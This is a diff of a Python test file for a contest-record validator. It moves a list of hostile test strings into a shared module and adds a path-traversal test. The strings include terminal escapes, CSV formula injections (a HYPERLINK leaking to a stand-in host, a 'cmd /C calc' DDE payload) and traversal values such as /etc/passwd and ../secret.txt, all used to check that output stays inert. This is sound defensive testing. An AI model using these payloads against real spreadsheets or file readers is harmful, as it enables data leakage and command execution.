@@ -21,13 +21,12 @@ import jsonschema
 import pytest
 import yaml
 from click.testing import CliRunner
+from hostile_strings import FORMULA_START, HOSTILE
 
 from validator.batch import Batch, Entry, EntryError, Problem, find_entries, rank
 from validator.cli import main
 from validator.readers import RECORD_FORMATS
 from validator.render.batch_out import REPORTERS, render_table, summary_lines
-from validator.render.sanitize import csv_cell as _csv_cell
-from validator.render.sanitize import plain_text as _terminal_text
 from validator.replayer import Verdict
 
 ROOT = Path(__file__).resolve().parent.parent
@@ -564,20 +563,6 @@ def test_schema_refuses_spoiled_output(contest: Path, spoil: Any) -> None:
 
 # -- Hostile text ----------------------------------------------------------------------------
 
-HOSTILE = [
-    "\x1b[2J",
-    "\x1b]0;x\x07",
-    "\x9b",
-    "\u202e",
-    '=HYPERLINK("http://x.example/?leak")',
-    "+1+cmd|' /C calc'!A0",
-    "@SUM(1)",
-    "\t=1",
-    "-2+3",
-    "\r=1",
-    "a\x7fb",
-    "\u2066x\u2069",
-]
 RAW_CONTROL = re.compile(
     "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]"
 )
@@ -585,40 +570,7 @@ RAW_CONTROL = re.compile(
 
 
 def _runs_in_a_spreadsheet(cell: str) -> bool:
-    return cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not re.fullmatch(
-        r"[+-]?\d+(\.\d+)?", cell
-    )
-
-
-@pytest.mark.parametrize("text", HOSTILE)
-def test_terminal_text_shows_controls_as_escapes(text: str) -> None:
-    shown = _terminal_text(text)
-    assert not RAW_CONTROL.search(shown) and "\t" not in shown and "\r" not in shown
-    for c in set(RAW_CONTROL.findall(text) + re.findall("[\t\r]", text)):
-        assert (f"\\x{ord(c):02x}" if ord(c) < 0x100 else f"\\u{ord(c):04x}") in shown
-
-
-@pytest.mark.parametrize("text", HOSTILE)
-def test_csv_cell_is_inert(text: str) -> None:
-    cell = _csv_cell(text)
-    assert isinstance(cell, str)
-    assert not _runs_in_a_spreadsheet(cell)
-    assert not RAW_CONTROL.search(cell) and "\t" not in cell
-    if text.startswith(("=", "+", "-", "@", "\t", "\r")):
-        assert cell.startswith("'")
-
-
-@pytest.mark.parametrize(
-    ("value", "cell"),
-    [(340, 340), (None, ""), ("-5", "-5"), ("+3", "+3"), ("1.5", "1.5"), ("plain", "plain")],
-)
-def test_csv_numbers_stay_numbers(value: str | int | None, cell: str | int) -> None:
-    assert _csv_cell(value) == cell
-
-
-def test_escapes_are_visible() -> None:
-    assert _terminal_text("\x1b[2J\u202e") == "\\x1b[2J\\u202e"
-    assert _csv_cell("\t=1") == "'\\x09=1"
+    return cell.startswith(FORMULA_START) and not re.fullmatch(r"[+-]?\d+(\.\d+)?", cell)
 
 
 @pytest.fixture
@@ -656,7 +608,7 @@ def test_a_hostile_inbox(hostile: Path, tmp_path: Path) -> None:
     if hasattr(os, "mkfifo"):
         assert reasons["fifo.yaml"] == "not a regular file (a FIFO, socket or device)"
     players = {e["file"]: e["player"] for e in data["entries"]}
-    assert [players[f"p{n:02d}.yaml"] for n in range(len(HOSTILE))] == HOSTILE  # lossless
+    assert [players[f"p{n:02d}.yaml"] for n in range(len(HOSTILE))] == list(HOSTILE)  # lossless
     rows = list(csv.reader(io.StringIO(outputs["csv"].stdout)))
     assert len(rows) == len(files) + 1
     for row in rows:
@@ -684,3 +636,47 @@ def test_names_are_not_rich_markup_or_emoji() -> None:
     render_table(console, batch, "entries")
     text = console.file.getvalue()  # type: ignore[attr-defined]
     assert text.count(name) == 2  # the table row and "Reached 300"
+
+
+SECRET = "root:x:0:0:TOP-SECRET-LINE"
+
+
+def test_dice_files_outside_the_folder_are_never_read(tmp_path: Path) -> None:
+    """A record's dice_file may only name a regular file inside the contest folder; nothing
+    of any other file reaches the results, and messages name paths relative to the folder."""
+    (tmp_path / "secret.txt").write_text(SECRET + "\n")
+    folder = tmp_path / "inbox"
+    (folder / "sub").mkdir(parents=True)
+    shutil.copy(DICE, folder / "challenge.txt")
+    (folder / "notdice.txt").write_text(SECRET + "\n")  # inside, but not a dice file
+    (folder / "outside-link.txt").symlink_to(tmp_path / "secret.txt")
+    round_ = "rounds:\n  - {cross: [1, 4], move: [1, 1]}\n"
+    records = {
+        "absolute.yaml": f"dice_file: {tmp_path / 'secret.txt'}\n",
+        "etc.yaml": "dice_file: /etc/passwd\n",
+        "dotdot.yaml": "dice_file: ../secret.txt\n",
+        "sub/deep.yaml": "dice_file: ../../secret.txt\n",
+        "link.yaml": "dice_file: outside-link.txt\n",
+        "device.yaml": "dice_file: /dev/zero\n",
+        "notdice.yaml": "dice_file: notdice.txt\n",
+        "ok.yaml": "dice_file: challenge.txt\n",
+        "sub/ok.yaml": "dice_file: ../challenge.txt\n",
+    }
+    for name, header in records.items():
+        (folder / name).write_text(header + round_)
+    result = run("batch", folder, "--format", "json")
+    assert result.exit_code == 0, result.output
+    for text in (result.stdout, result.stderr):
+        assert "TOP-SECRET" not in text and "root:" not in text
+        assert str(tmp_path) not in text  # no organizer path in what is published
+    entries = {e["file"]: e for e in json.loads(result.stdout)["entries"]}
+    # notdice.txt is an entry too (.txt is the annotated text record form): a malformed one.
+    assert sorted(entries) == sorted([*records, "notdice.txt"])
+    for name in records:
+        verdict = entries[name]["verdict"]
+        if name.endswith("ok.yaml"):
+            assert verdict == "incomplete", entries[name]
+        else:
+            assert verdict == "malformed", (name, entries[name])
+    assert "notdice.txt" in entries["notdice.yaml"]["error"]["message"]
+    assert "line 1" in entries["notdice.yaml"]["error"]["message"]
